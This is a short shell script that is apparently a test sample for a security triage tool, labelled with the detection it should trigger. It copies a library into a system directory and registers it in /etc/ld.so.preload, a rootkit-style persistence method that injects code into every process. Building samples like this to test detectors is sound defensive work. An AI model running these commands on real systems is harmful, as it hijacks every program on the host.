#!/bin/sh
# triage-expect: triage_ld_preload_loader
cp libsys.so /usr/lib/x86_64-linux-gnu/libsys.so
echo /usr/lib/x86_64-linux-gnu/libsys.so > /etc/ld.so.preload
